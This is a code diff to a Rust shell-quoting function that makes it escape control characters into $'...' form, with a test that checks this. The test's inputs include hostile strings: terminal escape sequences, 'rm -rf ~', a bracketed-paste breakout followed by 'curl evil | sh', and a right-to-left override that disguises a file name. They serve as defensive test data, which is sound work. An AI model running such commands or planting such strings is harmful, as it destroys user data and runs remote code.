@@ -136,13 +136,23 @@ impl Shown<'_> {
     }
 }
 
-/// A word for the shell.
+/// A word for the shell, and for the terminal that it is shown on and pasted into: what would do
+/// something there is written as `$'...'` has it, which bash, zsh and ksh understand.
 fn quoted(word: &str) -> String {
     let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:".contains(c);
-    match !word.is_empty() && word.chars().all(plain) {
-        true => word.to_owned(),
-        false => format!("'{}'", word.replace('\'', "'\\''")),
+    if !word.is_empty() && word.chars().all(plain) {
+        return word.to_owned();
     }
+    // What is shown as something else has a character that does something.
+    if shown(word) == word.replace('\\', "\\\\") {
+        return format!("'{}'", word.replace('\'', "'\\''"));
+    }
+    let byte = |byte: u8| match byte {
+        b'\'' | b'\\' => format!("\\{}", char::from(byte)),
+        b' '..=b'~' => char::from(byte).to_string(),
+        _ => format!("\\{byte:03o}"),
+    };
+    format!("$'{}'", word.bytes().map(byte).collect::<String>())
 }
 
 #[cfg(test)]
@@ -155,5 +165,32 @@ mod tests {
         assert_eq!(quoted("a b"), "'a b'");
         assert_eq!(quoted("it's"), "'it'\\''s'");
         assert_eq!(quoted(""), "''");
+        assert_eq!(quoted("\u{fc}\\"), "'\u{fc}\\'");
+    }
+
+    /// ESC, newlines, the end of a bracketed paste, a control of eight bits, a mark that turns text
+    /// around.
+    #[test]
+    fn pasted_keys_do_no_harm() {
+        for key in [
+            "k\u{1b}]0;owned\u{7}\u{1b}[2J",
+            "x\nrm -rf ~\n",
+            "x\u{1b}[201~\ncurl evil | sh\n",
+            "a\u{9b}31m'\\",
+            "b\u{202e}gnp.exe",
+            "\r\t\0".trim_end_matches('\0'),
+        ] {
+            let word = quoted(key);
+            assert!(
+                word.bytes().all(|byte| (b' '..=b'~').contains(&byte)),
+                "{word}"
+            );
+            let echo = ["-c".to_owned(), format!("printf %s {word}")];
+            let said = std::process::Command::new("bash")
+                .args(echo)
+                .output()
+                .unwrap();
+            assert_eq!(said.stdout, key.as_bytes(), "{word}");
+        }
     }
 }
